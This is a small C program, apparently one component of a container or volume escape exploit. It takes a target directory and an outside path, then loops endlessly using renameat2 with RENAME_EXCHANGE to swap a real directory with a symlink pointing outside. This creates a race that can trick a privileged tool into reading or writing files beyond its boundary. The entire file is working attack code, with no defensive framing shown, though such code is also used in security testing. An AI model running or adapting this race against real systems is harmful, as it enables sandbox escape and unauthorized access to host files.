/* Swaps a directory of a volume for links to outside, again and again, until it is ended. */
#include "escape.h"
#include <sys/stat.h>
int main(int argc, char **argv) {
  if (chdir(argv[1]) < 0) mistake("chdir");
  mkdir("x", 0777);
  unlink("link");
  if (symlink(argv[2], "link") < 0) mistake("symlink");
  puts("ready");
  fflush(stdout);
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, "x", AT_FDCWD, "link", 2 /* RENAME_EXCHANGE */) < 0)
      mistake("renameat2");
}
